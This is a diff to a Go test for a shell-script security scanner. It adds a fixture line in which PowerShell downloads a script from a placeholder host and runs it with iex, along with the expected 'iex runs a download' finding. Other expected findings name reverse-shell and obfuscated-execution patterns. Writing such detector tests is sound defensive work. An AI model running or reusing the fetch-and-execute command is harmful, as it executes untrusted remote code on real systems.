@@ -29,6 +29,7 @@ node -e 'console.log(require("./package.json").version)'
 perl -pi -e 's/foo/bar/g' notes.txt
 ruby -e 'puts RUBY_VERSION'
 python3 -c "import subprocess; subprocess.run(['git', 'status'])"
+pwsh -NoProfile -Command '$u = "https://x.invalid/p.ps1"; iex (irm $u)'
 `
 	want := []string{
 		"SG523 critical t.sh:2:1 code given to python3 inline: os.dup2 wires a network socket to a shell (s.fileno)",
@@ -39,6 +40,7 @@ python3 -c "import subprocess; subprocess.run(['git', 'status'])"
 		"SG521 critical t.sh:11:1 code given to perl inline: eval runs a download (get)",
 		"SG521 critical t.sh:12:1 code given to ruby inline: eval runs a download (URI.open)",
 		"SG520 critical t.sh:13:1 code given to python3 inline: os.system runs a constant decoded at run time (base64.b64decode)",
+		"SG521 critical t.sh:19:1 code given to pwsh inline: iex runs a download (irm)",
 	}
 	var got []string
 	for _, f := range File("t.sh", []byte(script)) {
